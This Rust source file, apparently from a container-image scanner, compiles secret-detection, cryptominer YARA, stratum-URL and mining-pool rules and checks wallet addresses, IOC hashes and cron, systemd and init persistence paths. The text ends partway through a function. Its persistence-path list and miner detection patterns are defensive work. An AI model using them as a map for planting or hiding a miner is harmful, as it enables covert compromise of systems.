//! The content engine, in the shape of yara-x (compile once, scan many): every content rule
//! — the secret catalog, the miner family rules, pool hostnames, stratum URLs and user
//! rules — is compiled into one YARA-X rule set, so each file is read by one pass; Rust
//! then checks the hits (secret checks in [`super::secrets`], pool-host boundaries, stratum
//! URL parsing, wallet checksums) and hashes executables against the IOC list.

use std::cell::RefCell;
use std::collections::{HashMap, HashSet};
use std::sync::OnceLock;

use sha2::{Digest, Sha256};

use super::secrets::{CatalogError, Hit, MAX_HITS_PER_FILE, SecretCatalog};
use super::wallet;
use super::{Detector, EntryKind, EntryMeta};
use crate::finding::{Category, Confidence, Finding, Location, Severity, Visibility};

/// Longest a single file scan may take before it is abandoned (and reported).
const SCAN_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(20);
/// Most hits of one pattern in one file that are checked.
const MAX_MATCHES_PER_PATTERN: usize = 1000;
/// Most wallet addresses reported for one file.
const MAX_WALLETS_PER_FILE: usize = 20;
/// Namespaces of the YARA-X rule set.
const NS_MINERS: &str = "miners";
const NS_USER: &str = "user";
const NS_LISTS: &str = "lists";

/// Why the rule set cannot be compiled: names the rule or file.
#[derive(Debug, thiserror::Error)]
pub enum EngineError {
    #[error(transparent)]
    Secret(#[from] CatalogError),
    #[error("{origin}: {message}")]
    Yara { origin: String, message: String },
}

/// A YARA rule of ours or a user's, with its metadata read once.
#[derive(Debug, Clone)]
pub struct YaraRule {
    pub meta: canary_rules::YaraRuleMeta,
    pub severity: Severity,
    /// The finding title, made once from the metadata.
    pub title: String,
    /// Where the rule came from (`miners.yar` or a user file).
    pub origin: String,
}

/// Everything the engine is built from.
pub struct RuleSources<'a> {
    pub secrets: Vec<canary_rules::SecretRule>,
    pub allowlist: Vec<String>,
    /// `(origin, source, is_builtin)`.
    pub yara: Vec<(String, &'a str, bool)>,
    pub pools: Vec<String>,
    pub pool_ports: Vec<(u16, bool)>,
    pub iocs: Vec<canary_rules::Ioc>,
}

impl RuleSources<'static> {
    /// The built-in rules.
    pub fn builtin() -> Self {
        RuleSources {
            secrets: canary_rules::secret_rules().to_vec(),
            allowlist: canary_rules::secret_allowlist()
                .map(str::to_string)
                .collect(),
            yara: vec![("miners.yar".into(), canary_rules::miner_yara(), true)],
            pools: canary_rules::mining_pools().map(str::to_string).collect(),
            pool_ports: canary_rules::pool_ports().collect(),
            iocs: canary_rules::iocs().to_vec(),
        }
    }
}

impl<'a> RuleSources<'a> {
    /// Add a user rule directory.
    pub fn add_user(&mut self, user: &'a canary_rules::UserRules) {
        self.secrets.extend(user.secrets.iter().cloned());
        self.yara.extend(
            user.yara
                .iter()
                .map(|(o, s)| (o.clone(), s.as_str(), false)),
        );
        self.pools.extend(user.pools.iter().cloned());
        self.iocs.extend(user.iocs.iter().cloned());
    }
}

/// A thread's YARA-X scanner and the address of the rule set it was made for.
type ScannerSlot = RefCell<Option<(usize, yara_x::Scanner<'static>)>>;

/// The candidates of secret rule `r<N>` (catalog rule N) that matched.
fn push_secret_candidates(
    rule: &yara_x::Rule<'_, '_>,
    out: &mut Vec<(usize, std::ops::Range<usize>)>,
) {
    let Some(i) = rule
        .identifier()
        .strip_prefix('r')
        .and_then(|n| n.parse::<usize>().ok())
    else {
        return;
    };
    for p in rule.patterns() {
        for m in p.matches() {
            out.push((i, m.range()));
        }
    }
}

/// The compiled rule set.
pub struct ContentEngine {
    /// Every rule that can match a file without an executable magic (ELF, PE, Mach-O):
    /// the secret catalog, the stratum pattern, the text rules of
    /// `miners.yar`, users' YARA rules.
    text: yara_x::Rules,
    /// The same for files with an executable magic: the binary rules of `miners.yar`
    /// instead of its text rules. Each rule of ours checks the magic first (see
    /// [`magic_class`]), so a file scanned with one set could never match a rule of the
    /// other, and no file pays the automaton walk for atoms that cannot report in it.
    binary: yara_x::Rules,
    /// The secret rules limited to some paths, scanned only over files on those paths
    /// (`None` when there are none).
    gated: Option<yara_x::Rules>,
    secrets: SecretCatalog,
    /// YARA rules by `namespace:identifier`.
    yara_rules: HashMap<String, usize>,
    yara_list: Vec<YaraRule>,
    pools: Vec<String>,
    /// The pool names, found in Rust rather than by YARA-X (see [`PoolMatcher`]).
    pool_matcher: PoolMatcher,
    ports: HashMap<u16, bool>,
    iocs: HashMap<[u8; 32], canary_rules::Ioc>,
}

/// A miner-side hit in one file.
#[derive(Debug, Clone, PartialEq)]
pub struct MinerHit {
    pub rule_id: String,
    pub title: String,
    pub severity: Severity,
    pub line: u64,
    /// Shown to the user: indicators, not secrets.
    pub evidence: String,
    /// What the fingerprint hashes.
    pub fingerprint_value: Vec<u8>,
}

/// What one scan of one file found.
#[derive(Debug, Default)]
pub struct FileHits {
    pub secrets: Vec<Hit>,
    pub miners: Vec<MinerHit>,
    /// The secret list was cut at [`MAX_HITS_PER_FILE`].
    pub secrets_truncated: bool,
}

/// Hostname characters (a pool name preceded or followed by one is part of another name).
fn host_char(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'-' || b == b'_'
}

/// Files that start programs on a schedule or at boot.
pub fn is_persistence_path(path: &str) -> bool {
    const PREFIXES: &[&str] = &[
        "/etc/cron",
        "/var/spool/cron/",
        "/etc/anacrontab",
        "/etc/systemd/",
        "/lib/systemd/system/",
        "/usr/lib/systemd/system/",
        "/etc/supervisor",
        "/etc/init.d/",
        "/etc/rc.local",
        "/etc/profile.d/",
        "/etc/profile",
        "/etc/bash.bashrc",
        "/etc/ld.so.preload",
        "/etc/s6-overlay/",
        "/etc/services.d/",
        "/etc/cont-init.d/",
    ];
    let name = path.rsplit('/').next().unwrap_or("");
    PREFIXES.iter().any(|p| path.starts_with(p))
        || matches!(
            name,
            ".bashrc" | ".profile" | ".bash_profile" | "supervisord.conf"
        )
        || path.contains("/.config/systemd/user/")
}

fn printable_evidence(b: &[u8], max: usize) -> String {
    let s: String = String::from_utf8_lossy(&b[..b.len().min(max)])
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    if b.len() > max {
        format!("{}…", s.trim_end())
    } else {
        s.trim().to_string()
    }
}

fn line_at(data: &[u8], offset: usize) -> u64 {
    1 + data[..offset.min(data.len())]
        .iter()
        .filter(|&&b| b == b'\n')
        .count() as u64
}

fn is_executable_content(data: &[u8]) -> bool {
    data.starts_with(b"\x7fELF") || data.starts_with(b"MZ") || data.starts_with(b"#!")
}

/// Finds listed pool hostnames as whole names: bytes equal to a listed name with no
/// hostname character (letter, digit, `-`, `_`) just before or after it (`x.nanopool.org`
/// holds `nanopool.org`, `notnanopool.org` does not). As YARA-X atoms, 224 names of
/// letters kept its automaton off its root state on every English word, a quarter of
/// its time on text; here the search starts at each `.` followed by a label that ends a
/// listed name (`com`, `org`…), which few dots in text or code are.
#[derive(Debug, Default)]
struct PoolMatcher {
    /// Listed name → index into `pools`.
    names: HashMap<Vec<u8>, usize>,
    /// The last labels of the listed names.
    last_labels: Vec<Vec<u8>>,
    /// Most labels and bytes in a listed name.
    max_labels: usize,
    max_len: usize,
}

/// Most hits of one pool name in one file that are kept.
const MAX_HITS_PER_POOL: usize = 1000;

impl PoolMatcher {
    fn new(pools: &[String]) -> Self {
        let mut m = PoolMatcher::default();
        for (i, p) in pools.iter().enumerate() {
            m.names.insert(p.as_bytes().to_vec(), i);
            let last = p.rsplit('.').next().unwrap_or("").as_bytes().to_vec();
            if !m.last_labels.contains(&last) {
                m.last_labels.push(last);
            }
            m.max_labels = m.max_labels.max(p.split('.').count());
            m.max_len = m.max_len.max(p.len());
        }
        m
    }

    /// Every whole-name occurrence, as (index into `pools`, range).
    fn find(&self, data: &[u8], out: &mut Vec<(usize, std::ops::Range<usize>)>) {
        if self.names.is_empty() {
            return;
        }
        let mut kept: HashMap<usize, usize> = HashMap::new();
        for dot in memchr::memchr_iter(b'.', data) {
            // The label after the dot must end a listed name, and end there.
            let end = data[dot + 1..]
                .iter()
                .position(|&b| !host_char(b))
                .map_or(data.len(), |n| dot + 1 + n);
            let label = &data[dot + 1..end];
            if label.is_empty() || !self.last_labels.iter().any(|l| l == label) {
                continue;
            }
            // Each label start to the left, nearest first: a name starts at one.
            let mut start = dot;
            for _ in 1..self.max_labels {
                // Never further back than the longest name: a megabyte-long run of
                // letters before many `.com`s is not read once per dot.
                let window = start.saturating_sub(self.max_len);
                let label_start = data[window..start]
                    .iter()
                    .rposition(|&b| !host_char(b))
                    .map_or(window, |n| window + n + 1);
                if label_start == start || end - label_start > self.max_len {
                    break;
                }
                if let Some(&i) = self.names.get(&data[label_start..end]) {
                    let n = kept.entry(i).or_default();
                    if *n < MAX_HITS_PER_POOL {
                        *n += 1;
                        out.push((i, label_start..end));
                    }
                }
                if label_start == 0 || data[label_start - 1] != b'.' {
                    break;
                }
                start = label_start - 1;
            }
        }
    }
}

/// What the executable guard of our YARA rules tests: `uint32(0) == 0x464c457f` (ELF),
/// `uint16(0) == 0x5a4d` (PE) or `uint32(0) == 0xfeedfacf` (64-bit Mach-O).
fn has_executable_magic(data: &[u8]) -> bool {
    data.starts_with(b"\x7fELF") || data.starts_with(b"MZ") || data.starts_with(b"\xcf\xfa\xed\xfe")
}

/// The files a YARA rule can match, read off its condition.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Magic {
    /// The condition is `GUARD and …` with no `or` outside parentheses: only files
    /// with an executable magic.
    Executable,
    /// `not GUARD and …`: only files without one.
    NotExecutable,
    /// Anything else (a rule the reading cannot vouch for goes into both sets).
    Any,
}

const EXECUTABLE_GUARD: &str =
    "(uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)";
const ELF_GUARD: &str = "uint32(0) == 0x464c457f";

/// Which files the one rule in `rule_src` can match. `and` binds tighter than `or` in
/// YARA, and `not` tighter than both, so a condition `G and A and (B or C)` is false
/// wherever `G` is; a top-level `or` anywhere would let the rest match alone.
fn magic_class(rule_src: &str) -> Magic {
    let mut parts = rule_src.split("condition:");
    let (Some(_), Some(cond), None) = (parts.next(), parts.next(), parts.next()) else {
        return Magic::Any;
    };
    // Our rules close with a `}` line of its own.
    let Some(end) = cond.find("\n}") else {
        return Magic::Any;
    };
    let cond = cond[..end].split_whitespace().collect::<Vec<_>>().join(" ");
    if cond.contains(['"', '/', '{', '}']) {
        return Magic::Any;
    }
    let (class, rest) =
        if let Some(rest) = cond.strip_prefix(&format!("not {EXECUTABLE_GUARD} and ")) {
            (Magic::NotExecutable, rest)
        } else if let Some(rest) = cond
            .strip_prefix(&format!("{EXECUTABLE_GUARD} and "))
            .or_else(|| cond.strip_prefix(&format!("{ELF_GUARD} and ")))
        {
            (Magic::Executable, rest)
        } else {
            return Magic::Any;
        };
    let mut depth = 0i32;
    let mut top_level = String::new();
    for c in rest.chars() {
        match c {
            '(' => depth += 1,
            ')' => depth -= 1,
            _ if depth == 0 => top_level.push(c),
            _ => {}
        }
        if depth < 0 {
            return Magic::Any;
        }
    }
    if depth != 0 || top_level.split_whitespace().any(|w| w == "or") {
        return Magic::Any;
    }
    class
}

/// The rules of a YARA source of ours, one source text each, or `None` when the source
/// holds anything before its first rule but comments (an import, say).
fn split_rules(src: &str) -> Option<Vec<&str>> {
    let mut starts: Vec<usize> = Vec::new();
    let mut at = 0;
    for line in src.split_inclusive('\n') {
        if line.starts_with("rule ") || line.starts_with("private rule ") {
            starts.push(at);
        }
        at += line.len();
    }
    let first = *starts.first()?;
    let mut in_block = false;
    for line in src[..first].lines() {
        let t = line.trim();
        if in_block || t.starts_with("/*") {
            in_block = !t.contains("*/");
        } else if !(t.is_empty() || t.starts_with("//")) {
            return None;
        }
    }
    Some(
        starts
            .iter()
            .enumerate()
            .map(|(k, &s)| &src[s..starts.get(k + 1).copied().unwrap_or(src.len())])
            .collect(),
    )
}

impl ContentEngine {
    /// Compile a rule set. Slow patterns (no good literal atom) are errors, not a silent
    /// 4× slowdown, in our rules and users' alike.
    pub fn compile(src: &RuleSources<'_>) -> Result<ContentEngine, EngineError> {
        let new_compiler = || {
            let mut c = yara_x::Compiler::new();
            c.error_on_slow_pattern(true);
            c
        };
        let (mut text, mut binary, mut gated) = (new_compiler(), new_compiler(), new_compiler());
        let (secrets, in_gated) = SecretCatalog::compile(
            &src.secrets,
            src.allowlist.iter().cloned(),
            &mut [&mut text, &mut binary],
            &mut gated,
        )?;
        let gated = (in_gated > 0).then(|| gated.build());
        for (origin, source, builtin) in &src.yara {
            let ns = if *builtin { NS_MINERS } else { NS_USER };
            text.new_namespace(ns);
            binary.new_namespace(ns);
            // Ours follow the guard convention (tested); users' go whole into both sets.
            let rules = if *builtin { split_rules(source) } else { None };
            for rule in rules.unwrap_or_else(|| vec![*source]) {
                let class = if *builtin {
                    magic_class(rule)
                } else {
                    Magic::Any
                };
                for (target, wanted) in [
                    (&mut text, class != Magic::Executable),
                    (&mut binary, class != Magic::NotExecutable),
                ] {
                    if wanted {
                        target
                            .add_source(yara_x::SourceCode::from(rule).with_origin(origin.as_str()))
                            .map_err(|e| EngineError::Yara {
                                origin: origin.clone(),
                                message: e.to_string(),
                            })?;
                    }
                }
            }
        }
        // Stratum URLs: candidates for the Rust checks below (pool names: `PoolMatcher`).
        let mut pools: Vec<String> = src
            .pools
            .iter()
            .map(|p| p.trim().to_ascii_lowercase())
            .filter(|p| p.len() >= 4 && p.contains('.'))
            .collect();
        pools.sort();
        pools.dedup();
        let lists = String::from(
            "rule stratum { strings: $s = /stratum2?(\\+(tcp|ssl|tls))?:\\/\\/[A-Za-z0-9._\\-]{1,253}(:[0-9]{1,5})?/ condition: $s }\n",
        );
        if let Some(p) = pools
            .iter()
            .find(|p| p.bytes().any(|b| !(host_char(b) || b == b'.')))
        {
            return Err(EngineError::Yara {
                origin: "mining-pools.txt".into(),
                message: format!("{p:?} is not a hostname"),
            });
        }
        let pool_matcher = PoolMatcher::new(&pools);
        for c in [&mut text, &mut binary] {
            c.new_namespace(NS_LISTS);
            c.add_source(lists.as_str())
                .map_err(|e| EngineError::Yara {
                    origin: "mining-pools.txt".into(),
                    message: e.to_string(),
                })?;
        }
        let (text, binary) = (text.build(), binary.build());

        let mut yara_rules = HashMap::new();
        let mut yara_list = Vec::new();
        let mut ids: HashSet<String> = canary_rules::rules()
            .iter()
            .filter(|r| !r.id.starts_with("miner/") && !r.id.starts_with("packer/"))
            .map(|r| r.id.clone())
            .collect();
        ids.extend(src.secrets.iter().map(|r| r.id.clone()));
        for rule in text.iter().chain(binary.iter()) {
            let ns = rule.namespace();
            if (ns != NS_MINERS && ns != NS_USER)
                || rule.is_private()
                || yara_rules.contains_key(&format!("{ns}:{}", rule.identifier()))
            {
                continue;
            }
            let origin = if ns == NS_MINERS {
                "miners.yar"
            } else {
                "user rules"
            };
            let pairs: Vec<(&str, Vec<u8>)> = rule
                .metadata()
                .map(|(k, v)| {
                    let bytes = match v {
                        yara_x::MetaValue::String(s) => s.as_bytes().to_vec(),
                        yara_x::MetaValue::Bytes(b) => b.to_vec(),
                        yara_x::MetaValue::Integer(i) => i.to_string().into_bytes(),
                        yara_x::MetaValue::Float(f) => f.to_string().into_bytes(),
                        yara_x::MetaValue::Bool(b) => b.to_string().into_bytes(),
                    };
                    (k, bytes)
                })
                .collect();
            let meta = canary_rules::YaraRuleMeta::from_pairs(rule.identifier(), pairs).map_err(
                |message| EngineError::Yara {
                    origin: origin.into(),
                    message,
                },
            )?;
            if !ids.insert(meta.id.clone()) {
                return Err(EngineError::Yara {
                    origin: origin.into(),
                    message: format!("rule id {:?} is used twice", meta.id),
                });
            }
            let severity = meta.severity.parse().map_err(|message| EngineError::Yara {
                origin: origin.into(),
                message,
            })?;
            yara_rules.insert(format!("{ns}:{}", rule.identifier()), yara_list.len());
            yara_list.push(YaraRule {
                title: meta.rule_meta().title,
                meta,
                severity,
                origin: origin.into(),
            });
        }
        Ok(ContentEngine {
            text,
            binary,
            gated,
            secrets,
            yara_rules,
            yara_list,
            pools,
            pool_matcher,
            ports: src.pool_ports.iter().copied().collect(),
            iocs: src.iocs.iter().map(|i| (i.sha256, i.clone())).collect(),
        })
    }

    /// The built-in rules, compiled once per process.
    pub fn builtin() -> &'static ContentEngine {
        static ENGINE: OnceLock<ContentEngine> = OnceLock::new();
        ENGINE.get_or_init(|| {
            ContentEngine::compile(&RuleSources::builtin())
                .expect("the built-in rules compile (checked by tests)")
        })
    }

    pub fn secrets(&self) -> &SecretCatalog {
        &self.secrets
    }

    pub fn yara_rules(&self) -> &[YaraRule] {
        &self.yara_list
    }

    /// The built-in rules plus a user rule directory (`--rules DIR`), compiled once for the
    /// process; the user rules' metadata becomes known to reports and `rules explain`.
    pub fn with_user_rules(
        dir: &std::path::Path,
    ) -> Result<(&'static ContentEngine, &'static canary_rules::UserRules), String> {
        let user: &'static canary_rules::UserRules = Box::leak(Box::new(
            canary_rules::UserRules::load(dir).map_err(|e| e.to_string())?,
        ));
        let mut src = RuleSources::builtin();
        src.add_user(user);
        let engine = ContentEngine::compile(&src).map_err(|e| e.to_string())?;
        let builtin_secrets = canary_rules::secret_rules().len();
        let mut metas: Vec<canary_rules::RuleMeta> = engine
            .yara_list
            .iter()
            .filter(|r| r.origin != "miners.yar")
            .map(|r| r.meta.rule_meta())
            .collect();
        metas.extend(engine.secrets.rules()[builtin_secrets..].iter().map(|r| {
            canary_rules::RuleMeta {
                id: r.meta.id.clone(),
                severity: r.meta.severity.clone(),
                category: "secret".into(),
                title: r.meta.title.clone(),
                description: r.meta.description.clone(),
                help: r.meta.help.clone(),
            }
        }));
        canary_rules::register_user_rules(metas);
        Ok((Box::leak(Box::new(engine)), user))
    }

    /// Run every rule's own examples: positives must be found, negatives must not fire.
    /// With `only` set, just the rules whose ids are in it.
    pub fn example_failures(&'static self, only: Option<&HashSet<String>>) -> Vec<String> {
        let wanted = |id: &str| only.is_none_or(|o| o.contains(id));
        let mut failures = Vec::new();
        for (i, r) in self.secrets.rules().iter().enumerate() {
            if !wanted(&r.meta.id) {
                continue;
            }
            let path = r
                .meta
                .paths
                .first()
                .map(|p| p.replace("**", "/home/app"))
                .unwrap_or_else(|| "/app/config".into());
            if r.meta.positive.is_empty() || r.meta.negative.is_empty() {
                failures.push(format!(
                    "{}: needs positive and negative examples",
                    r.meta.id
                ));
            }
            for p in &r.meta.positive {
                match self.scan(&path, p.as_bytes()) {
                    Ok(h) if h.secrets.iter().any(|h| h.rule == i) => {}
                    Ok(_) => failures.push(format!("{}: missed positive {p:?}", r.meta.id)),
                    Err(e) => failures.push(format!("{}: {e}", r.meta.id)),
                }
            }
            for n in &r.meta.negative {
                if let Ok(h) = self.scan(&path, n.as_bytes())
                    && h.secrets.iter().any(|h| h.rule == i)
                {
                    failures.push(format!("{}: fired on negative {n:?}", r.meta.id));
                }
            }
        }
        for r in &self.yara_list {
            if !wanted(&r.meta.id) {
                continue;
            }
            if r.meta.positive.is_empty() || r.meta.negative.is_empty() {
                failures.push(format!(
                    "{}: needs `positive` and `negative` examples in its meta",
                    r.meta.id
                ));
            }
            let fired = |data: &[u8]| {
                self.scan("/app/x", data)
                    .map(|h| h.miners.iter().any(|m| m.rule_id == r.meta.id))
            };
            for p in &r.meta.positive {
                if !matches!(fired(p), Ok(true)) {
                    failures.push(format!(
                        "{}: missed positive {:?}",
                        r.meta.id,
                        String::from_utf8_lossy(p)
                    ));
                }
            }
            for n in &r.meta.negative {
                if matches!(fired(n), Ok(true)) {
                    failures.push(format!(
                        "{}: fired on negative {:?}",
                        r.meta.id,
                        String::from_utf8_lossy(n)
                    ));
                }
            }
        }
        failures
    }

    /// Scan one file's bytes. `path` is the file's path in the image.
    /// `data` as text with every secret the catalog confirms in it replaced by its
    /// redaction: for showing captured bytes (a sandbox's network traffic) safely.
    pub fn redact_text(&'static self, data: &[u8]) -> String {
        let mut text = String::from_utf8_lossy(data).into_owned();
        if let Ok(hits) = self.scan("/captured", data) {
            for h in hits.secrets {
                let value = String::from_utf8_lossy(&h.fingerprint_value).into_owned();
                if value.len() >= 4 {
                    text = text.replace(&value, &crate::finding::redact(&value));
                }
            }
        }
        text
    }

    /// Scan `data` with this thread's scanner of `rules` (kept in `slot`, made again when
    /// it belongs to other rules) and hand the results to `each`.
    fn scan_with(
        slot: &'static std::thread::LocalKey<ScannerSlot>,
        rules: &'static yara_x::Rules,
        data: &[u8],
        each: impl FnOnce(yara_x::ScanResults<'_, '_>),
    ) -> Result<(), String> {
        slot.with(|cell| {
            let mut slot = cell.borrow_mut();
            // Engines are 'static, so the address of their rules identifies them.
            let me = rules as *const yara_x::Rules as usize;
            if slot.as_ref().is_none_or(|(owner, _)| *owner != me) {
                let mut s = yara_x::Scanner::new(rules);
                s.set_timeout(SCAN_TIMEOUT);
                s.max_matches_per_pattern(MAX_MATCHES_PER_PATTERN);
                *slot = Some((me, s));
            }
            let (_, scanner) = slot.as_mut().expect("set just above");
            let results = scanner
                .scan(data)
                .map_err(|e| format!("content scan stopped: {e}"))?;
            each(results);
            Ok(())
        })
    }

    pub fn scan(&'static self, path: &str, data: &[u8]) -> Result<FileHits, String> {
        thread_local! {
            /// This thread's scanners: of the text rules, the binary rules and the
            /// path-limited secret rules.
            static TEXT: ScannerSlot = const { RefCell::new(None) };
            static BINARY: ScannerSlot = const { RefCell::new(None) };
            static GATED: ScannerSlot = const { RefCell::new(None) };
        }
        let mut secret_candidates: Vec<(usize, std::ops::Range<usize>)> = Vec::new();
        // (rule index, first match offset, first match bytes)
        let mut yara_hits: Vec<(usize, usize, Vec<u8>)> = Vec::new();
        let mut stratum: Vec<std::ops::Range<usize>> = Vec::new();
        let mut pool_hits: Vec<(usize, std::ops::Range<usize>)> = Vec::new();
        let (slot, rules) = if has_executable_magic(data) {
            (&BINARY, &self.binary)
        } else {
            (&TEXT, &self.text)
        };
        Self::scan_with(slot, rules, data, |results| {
            for rule in results.matching_rules() {
                let ns = rule.namespace();
                let id = rule.identifier();
                if ns == super::secrets::NAMESPACE {
                    push_secret_candidates(&rule, &mut secret_candidates);
                } else if ns == NS_LISTS {
                    for p in rule.patterns() {
                        stratum.extend(p.matches().map(|m| m.range()));
                    }
                } else if let Some(&i) = self.yara_rules.get(&format!("{ns}:{id}")) {
                    // The first match of the rule is its evidence; a rule with only a
                    // condition (no strings) points at the file's start.
                    let first = rule
                        .patterns()
                        .flat_map(|p| p.matches().next().map(|m| (m.range(), m.data().to_vec())))
                        .min_by_key(|(r, _)| r.start);
                    match first {
                        Some((r, bytes)) => yara_hits.push((i, r.start, bytes)),
                        None => yara_hits.push((i, 0, Vec::new())),
                    }
                }
            }
        })?;
        self.pool_matcher.find(data, &mut pool_hits);
        self.secrets
            .anchor_candidates(path, data, &mut secret_candidates);
        if let Some(gated) = &self.gated
            && self.secrets.gated_path(path)
        {
            Self::scan_with(&GATED, gated, data, |results| {
                for rule in results.matching_rules() {
                    push_secret_candidates(&rule, &mut secret_candidates);
                }
            })?;
        }

        let secrets = self.secrets.confirm_all(path, data, secret_candidates);
        let mut hits = FileHits {
            secrets_truncated: secrets.len() == MAX_HITS_PER_FILE,
            secrets,
            miners: Vec::new(),
        };
        self.miner_hits(path, data, yara_hits, stratum, pool_hits, &mut hits.miners);
        Ok(hits)
    }

    fn miner_hits(
        &self,
        path: &str,
        data: &[u8],
        yara_hits: Vec<(usize, usize, Vec<u8>)>,
        stratum: Vec<std::ops::Range<usize>>,
        pool_hits: Vec<(usize, std::ops::Range<usize>)>,
        out: &mut Vec<MinerHit>,
    ) {
        let persistence = is_persistence_path(path);
        let mut miner_traits = false;
        for (i, at, bytes) in yara_hits {
            let rule = &self.yara_list[i];
            let packer = rule.meta.id.starts_with("packer/");
            miner_traits |= !packer && rule.severity >= Severity::High;
            out.push(MinerHit {
                rule_id: rule.meta.id.clone(),
                title: rule.title.clone(),
                severity: rule.severity,
                line: line_at(data, at),
                evidence: if bytes.is_empty() {
                    format!("rule {} matched", rule.meta.name)
                } else {
                    format!("matched {:?}", printable_evidence(&bytes, 96))
                },
                fingerprint_value: rule.meta.id.as_bytes().to_vec(),
            });
        }

        // Pool hostnames, whole names only (`x.nanopool.org`, not `notnanopool.org`).
        // A name inside a stratum URL is reported as the URL; of two listed names on the
        // same bytes (`pool.supportxmr.com`, `supportxmr.com`) the longer one.
        let mut pool_hits: Vec<_> = pool_hits
            .into_iter()
            .filter(|(_, r)| {
                let before_ok = r.start == 0 || !host_char(data[r.start - 1]);
                let after_ok = r.end >= data.len() || !host_char(data[r.end]);
                before_ok
                    && after_ok
                    && !stratum.iter().any(|s| s.start <= r.start && r.end <= s.end)
            })
            .collect();
        pool_hits.sort_by_key(|(_, r)| (r.end, std::cmp::Reverse(r.len())));
        pool_hits.dedup_by_key(|(_, r)| r.end);
        let mut hosts: Vec<(String, usize)> = Vec::new();
        for (i, r) in pool_hits {
            if !hosts.iter().any(|(h, _)| *h == self.pools[i]) {
                hosts.push((self.pools[i].clone(), r.start));
            }
        }
        let mut seen_urls = HashSet::new();
        for r in stratum {
            let url = String::from_utf8_lossy(&data[r.clone()]).into_owned();
            let Some((_, rest)) = url.split_once("://") else {
                continue;
            };
            let (host, port) = match rest.rsplit_once(':') {
                Some((h, p)) => (h.to_ascii_lowercase(), p.parse::<u16>().ok()),
                None => (rest.to_ascii_lowercase(), None),
            };
            if host.is_empty() || !seen_urls.insert(url.clone()) {
                continue;
            }
            let known_pool = self
                .pools
                .iter()
                .find(|p| host == **p || host.ends_with(&format!(".{p}")));
            miner_traits = true;
            let severity = if known_pool.is_some() || persistence {
                Severity::Critical
            } else {
                Severity::High
            };
            let port_note = match port.and_then(|p| self.ports.get(&p).map(|amb| (p, amb))) {
                Some((p, false)) => format!(", port {p} is a common pool port"),
                _ => String::new(),
            };
            out.push(MinerHit {
                rule_id: "miner/stratum-url".into(),
                title: "Stratum mining-pool URL".into(),
                severity,
                line: line_at(data, r.start),
                evidence: format!(
                    "{}{}{}",
                    printable_evidence(url.as_bytes(), 120),
                    if known_pool.is_some() {
                        " (a known pool)"
                    } else {
                        ""
                    },
                    port_note
                ),
                fingerprint_value: url.into_bytes(),
            });
        }
        for (host, at) in hosts {
            // `host:port` with a pool port makes a mention a configuration.
            let after = &data[(at + host.len()).min(data.len())..];
            let port = after
                .strip_prefix(b":")
                .map(|rest| {
                    rest.iter()
                        .take_while(|b| b.is_ascii_digit())
                        .fold(0u32, |n, &d| {
                            n.saturating_mul(10).saturating_add((d - b'0') as u32)
                        })
                })
                .and_then(|p| u16::try_from(p).ok());
            let pool_port = port.is_some_and(|p| self.ports.get(&p) == Some(&false));
            let severity = if miner_traits || pool_port || persistence {
                Severity::High
            } else {
                Severity::Medium
            };
            out.push(MinerHit {
                rule_id: "miner/pool-host".into(),
                title: "Mining-pool hostname".into(),
                severity,
                line: line_at(data, at),
                evidence: match port {
                    Some(p) => format!("{host}:{p}"),
                    None => host.clone(),
                },
                fingerprint_value: host.into_bytes(),
            });
            miner_traits |= pool_port;
        }

        // Where the coins go: wallets next to miner traits (a wallet alone is a donation
        // address in a README as often as not).
        if miner_traits {
            for w in wallet::find_in(data, true, MAX_WALLETS_PER_FILE) {
                out.push(MinerHit {
                    rule_id: "miner/wallet-address".into(),
                    title: format!("{} wallet address next to miner traits", w.coin.name()),
                    severity: Severity::High,
                    line: line_at(data, w.offset),
                    // An address is an indicator, not a secret: shown whole.
                    evidence: w.address.clone(),
                    fingerprint_value: w.address.into_bytes(),
                });
            }
        }

        if !self.iocs.is_empty() && is_executable_content(data) {
            let digest: [u8; 32] = Sha256::digest(data).into();
            if let Some(ioc) = self.iocs.get(&digest) {
                out.push(MinerHit {
                    rule_id: "miner/known-bad-sha256".into(),
                    title: format!("File matches a known-bad SHA-256 ({})", ioc.family),
                    severity: Severity::Critical,
                    line: 1,
                    evidence: format!("sha256:{} listed by {}", crate::hex(&digest), ioc.source),
                    fingerprint_value: digest.to_vec(),
                });
                miner_traits = true;
            }
        }

        if persistence && miner_traits {
            let what = out
                .iter()
                .filter(|h| h.severity >= Severity::High)
                .map(|h| h.rule_id.as_str())
                .collect::<Vec<_>>()
                .join(", ");
            out.push(MinerHit {
                rule_id: "miner/persistence".into(),
                title: "Miner started from cron, systemd, supervisord or an init script".into(),
                severity: Severity::Critical,
                line: out.iter().map(|h| h.line).min().unwrap_or(1),
                evidence: format!("{path} starts or configures a miner ({what})"),
                fingerprint_value: path.as_bytes().to_vec(),
            });
        }
    }
}

/// The detector: every regular file's bytes through the content engine.
pub struct ContentDetector {
    engine: &'static ContentEngine,
}

impl ContentDetector {
    pub fn new(engine: &'static ContentEngine) -> Self {
        ContentDetector { engine }
    }
}

impl Detector for ContentDetector {
    fn name(&self) -> &'static str {
        "content"
    }

    fn wants_content(&self, e: &EntryMeta<'_>) -> bool {
        e.kind == EntryKind::File && e.size > 0
    }

    fn scan_entry(
        &self,
        e: &EntryMeta<'_>,
        content: Option<&[u8]>,
        out: &mut Vec<Finding>,
        problems: &mut Vec<String>,
    ) {
        let Some(data) = content else { return };
        let hits = match self.engine.scan(e.path, data) {
            Ok(h) => h,
            Err(msg) => {
                problems.push(msg);
                return;
            }
        };
        if hits.secrets_truncated {
            problems.push(format!(
                "more than {MAX_HITS_PER_FILE} secrets in this file; only the first {MAX_HITS_PER_FILE} are reported"
            ));
        }
        let location = |line: u64| Location::ImageFile {
            layer_index: e.layer_index,
            layer_digest: e.layer_digest.to_string(),
            path: e.path.to_string(),
            line: Some(line),
            archive_chain: e.archive_chain.to_vec(),
            visibility: Visibility::Visible,
        };
        out.extend(self.engine.findings(hits, &e.fingerprint_path(), location));
    }
}

impl ContentEngine {
    /// Findings from one file's hits: `fp_path` is what fingerprints name the place by,
    /// `location` places a hit's line.
    pub fn findings(
        &self,
        hits: FileHits,
        fp_path: &str,
        location: impl Fn(u64) -> Location,
    ) -> Vec<Finding> {
        let mut out = Vec::new();
